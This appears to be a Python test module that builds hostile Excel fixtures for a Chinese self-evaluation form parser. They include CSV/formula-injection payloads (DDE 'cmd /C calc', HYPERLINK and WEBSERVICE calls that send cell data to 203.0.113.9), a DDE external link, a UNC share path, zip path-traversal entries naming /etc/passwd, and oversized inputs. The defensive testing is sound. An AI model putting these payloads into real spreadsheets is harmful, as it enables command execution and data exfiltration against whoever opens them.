"""Sound forms with hostile insides: they must count, exactly, and nothing of theirs may act in what is written out."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from decimal import Decimal
from xml.sax.saxutils import escape

from selfeval import text as t
from tests.answers import filled_row
from tests.filled import (
    CLERK,
    SCHEME,
    Content,
    Place,
    Raw,
    appended,
    at,
    parts_of,
    rewritten,
    with_cells,
    with_parts,
    with_sheet,
    written,
    zipped,
)
from tests.hostile.parts import MB, Expectation, Thing, unrecognised, used

# What a spreadsheet program runs, or sends somewhere, if it takes a text for a formula.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://203.0.113.9/?"&A1,"点这里")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.9/x","查看")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=cmd|' /C calc'!A0",
    "\r\n=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://203.0.113.9/"&B5)',
    "＝cmd|' /C calc'!A0",
    '=IMPORTXML("http://203.0.113.9/","//a")',
    "{=cmd|' /C calc'!A0}",
    ' =EXEC("calc")',
    "'=cmd|' /C calc'!A0",
    'of:=HYPERLINK("http://203.0.113.9")',
    "http://203.0.113.9/点这里",
    "external:\\\\203.0.113.9\\share\\x.xlsx",
    "internal:'汇总表'!A1",
    "<script>alert(1)</script><f>1+1</f>",
    "]]></t></si><si><t>&#x3d;cmd",
)
CONTROLS = "".join(f"_x{code:04X}_" for code in (*range(32), 0x7F, 0x85, 0x2028, 0xFFFE, 0xFFFF, 0xD83D, 0xDE00))
MARKS = "\u202e表评自\u202c\u200f\u2066实\u2069\ufeff\u200b名\u0301"
HALF = Decimal("0.5")
CODES = [indicator.code for indicator in SCHEME.indicators]


def forms(*, heavy: bool) -> Iterator[Thing]:
    """Forms that must be read and counted, but for two that nobody can be told from."""
    yield from _texts()
    yield from _formulas()
    yield from _companions()
    yield from _far_and_wide(heavy=heavy)


def _texts() -> Iterator[Thing]:
    rows = {
        code: filled_row(SCHEME.by_code[code].cap - HALF, f"{payload}第{n}项", payload, payload)
        for n, (code, payload) in enumerate(zip(CODES, [*PAYLOADS, *PAYLOADS], strict=False))
    }
    identity = {
        **CLERK,
        t.ID_CLERK: PAYLOADS[0],
        t.ID_PHONE: PAYLOADS[1],
        t.ID_HEAD: PAYLOADS[2],
        t.ID_REMARK: PAYLOADS[4],
    }
    yield used("公式/处处公式.xlsx", written("104", rows, identity), "104")
    bare = {
        code: filled_row(SCHEME.by_code[code].cap - HALF, payload)
        for code, payload in zip(CODES, PAYLOADS, strict=False)
    }
    yield used("公式/原因是公式.xlsx", written("105", bare, {**CLERK, t.ID_DATE: PAYLOADS[0]}), "105", "C403", "R304")
    scores = with_cells(written("107"), {at("1.1.2", t.COL_SCORE): PAYLOADS[0], at("1.2.1", t.COL_SCORE): PAYLOADS[1]})
    yield returned("公式/自评分是公式文字.xlsx", scores, "107", "S102", "S102")
    named = with_cells(written("101"), {at(t.ID_CODE): PAYLOADS[0], at(t.ID_NAME): PAYLOADS[4]})
    yield unrecognised("公式/部门是公式.xlsx", named, "D202", "D203")
    titled = with_cells(written("108"), {(t.SHEET_SCORES, "L5"): PAYLOADS[4], at("1.1.2", t.COL_CAP): PAYLOADS[0],
                                         at("1.2.1", t.COL_INDICATOR): PAYLOADS[2]})  # fmt: skip
    tab = escape("=cmd|'!A0", {'"': "&quot;"})
    titled = rewritten(titled, {"xl/workbook.xml": lambda part: part.replace('name="得分汇总表"', f'name="{tab}"')})
    yield used("公式/表名表头是公式.xlsx", titled, "108", "R305", "R306", "T110", "T114", "T117")

    controls = {code: filled_row(SCHEME.by_code[code].cap - HALF, f"材料补报{n}次") for n, code in enumerate(CODES[:3])}
    odd: dict[Place, Content] = {
        at(CODES[0], t.COL_REASON): f"控制字符{CONTROLS}后面",
        at(CODES[1], t.COL_REASON): "_x000D_换行_x000D__x000A__x005F_x000D_下划线",
        at(CODES[2], t.COL_EXPLANATION): Raw(f"<is><t>说明{CONTROLS}</t></is>", ' t="inlineStr"'),
        at(t.ID_CLERK): f"张{CONTROLS}三", at(t.ID_REMARK): f"总体说明{CONTROLS}",
        at(CODES[4], t.COL_INDICATOR): f"改{CONTROLS}名",
    }  # fmt: skip
    yield used("文字/控制字符.xlsx", with_cells(written("201", controls), odd), "201", "R306")
    back: dict[Place, Content] = {
        at("1.1.2", t.COL_SCORE): "约3_x0001__x001B_[31m",  # on one line: it goes into a formula of the copy sent back
        at("1.2.1", t.COL_REASON): f"满分却写了原因{CONTROLS}",
        at("1.2.1", t.COL_EXPLANATION): f"属于上年事项{CONTROLS}",
        at("1.2.2", t.COL_REASON): '满分"&HYPERLINK("http://203.0.113.9")&"',
        at("1.2.3", t.COL_REASON): "长" * 32_767,
        at(t.ID_NAME): "县审计局_x0001_",
    }
    yield returned(
        "文字/退回的控制字符.xlsx", with_cells(written("218"), back), "218", "D203", "R302", "R302", "R302", "S102"
    )
    marked = with_cells(
        written("202"),
        {at("1.1.1", t.COL_REASON): f"材料{MARKS}补报", at(t.ID_NAME): f"\u202a{'县发改局'}\u202c\u200f"},
    )
    yield used("文字/方向标记.xlsx", marked, "202")
    long = "长" * 32_767
    texts = dict.fromkeys((at(code, column) for code in CODES for column in (t.COL_EVIDENCE, t.COL_EXPLANATION)), long)
    lengthy = with_cells(written("204"), {**texts, at("1.1.1", t.COL_REASON): long, at(t.ID_REMARK): "很长" * 50_000})
    yield used("文字/三万字.xlsx", lengthy, "204", *["T141"] * 62)


def _formulas() -> Iterator[Thing]:
    """Real formulas in the answer cells, with the results a program stored."""
    link = escape('HYPERLINK("http://203.0.113.9/","材料补报两次")')
    reason = Raw(f"<f>{link}</f><v>材料补报两次</v>", ' t="str"')
    dde = Raw("<f>cmd|'/C calc'!A0</f><v>4</v>")
    cells: dict[Place, Content] = {at("1.1.1", t.COL_REASON): reason, at("1.1.2", t.COL_SCORE): dde}
    yield used("公式/真公式.xlsx", with_cells(written("205"), cells), "205")
    linked = with_cells(written("207"), {at("1.1.2", t.COL_SCORE): Raw("<f>[1]Sheet1!$A$1</f><v>4</v>")})
    parts = {
        "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x/externalLinkPath" Target="\\\\203.0.113.9\\share\\a.xlsx" TargetMode="External"/></Relationships>',
    }
    yield used("附带/外部链接.xlsx", with_parts(linked, parts), "207", "T120")
    array = Raw('<f t="array" ref="H7:H9">{4;3;3}</f><v>4</v>')
    yield used(
        "公式/数组公式.xlsx", with_cells(written("210"), {at("1.1.2", t.COL_SCORE): array}), "210", *["S172"] * 2
    )


def _companions() -> Iterator[Thing]:
    """What else lies in the workbook's zip."""
    yield used(
        "附带/宏.xlsm", with_parts(written("212"), {"xl/vbaProject.bin": b"\xcc\x61" + bytes(2000)}), "212", "T119"
    )
    inner = written("101")
    objects = parts_of(written("215")) | {
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(3000), "xl/embeddings/Book1.xlsx": inner,
        "xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(100), "customXml/item1.xml": b"<x/>",
    }  # fmt: skip
    yield used("附带/嵌入对象.xlsx", zipped(objects, stored=True), "215")
    climbing = parts_of(written("217")) | {
        "../../../../etc/cron.d/x.xml": b"x", "/etc/passwd": b"x", "C:\\Windows\\x.xml": b"x", "xl/../../up.xml": b"x",
    }  # fmt: skip
    yield used("附带/爬出去的部件.xlsx", zipped(climbing), "217")
    yield used("附带/后面有字.xlsx", written("219") + bytes(5000), "219")


def _far_and_wide(*, heavy: bool) -> Iterator[Thing]:
    far = appended(written("220"), t.SHEET_SCORES, {"J1048576": "藏在最下面", "XFD1048576": "藏在角落", "Z900": 3.0})
    yield used("洪水/表角落有字.xlsx", far, "220", "T115", "T115", "T115")
    count = re.compile(r'uniqueCount="\d+"')
    claim = rewritten(
        written("302"), {"xl/sharedStrings.xml": lambda part: count.sub('uniqueCount="4294967295"', part)}
    )
    yield used("洪水/四十亿字符串.xlsx", claim, "302")
    noisy = with_parts(written("304"), {f"xl/media/image{n}.bin": random.Random(n).randbytes(MB) for n in range(8)})
    yield used("洪水/八兆图片.xlsx", noisy, "304")
    if heavy:
        empty = "".join(f'<row r="{n}" spans="1:12" s="27" customFormat="1" ht="12"/>' for n in range(100, 900_000))
        rows = with_sheet(
            written("305"), t.SHEET_SCORES, lambda part: part.replace("</sheetData>", empty + "</sheetData>")
        )
        yield used("洪水/九十万空行.xlsx", rows, "305")


def returned(path: str, data: bytes, department: str, *codes: str) -> Thing:
    """A form that is understood and sent back."""
    return Thing(path, data, (Expectation(path, "returned", tuple(sorted(codes)), department),))


def gluttons() -> Iterator[tuple[str, bytes]]:
    """Forms that bring in as much as they can: words, rows, and both."""
    draw = random.Random(1)
    page = "".join(chr(draw.randrange(0x4E00, 0x9FA5)) for _ in range(1000))
    texts = {
        at(code, column): page * 33 for code in CODES for column in (t.COL_REASON, t.COL_EVIDENCE, t.COL_EXPLANATION)
    }
    yield "满篇文字", with_cells(written("101"), {**texts})
    yield "百万字", with_cells(written("103"), {at(code, t.COL_REASON): page * 600 for code in CODES})
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>X{row}</t></is></c><c r="H{row}"><v>1</v></c>'
        f'<c r="I{row}" t="inlineStr"><is><t>{page * 2}</t></is></c></row>'
        for row in range(50, 1990)
    )
    yield (
        "两千行",
        with_sheet(written("105"), t.SHEET_SCORES, lambda part: part.replace("</sheetData>", rows + "</sheetData>")),
    )
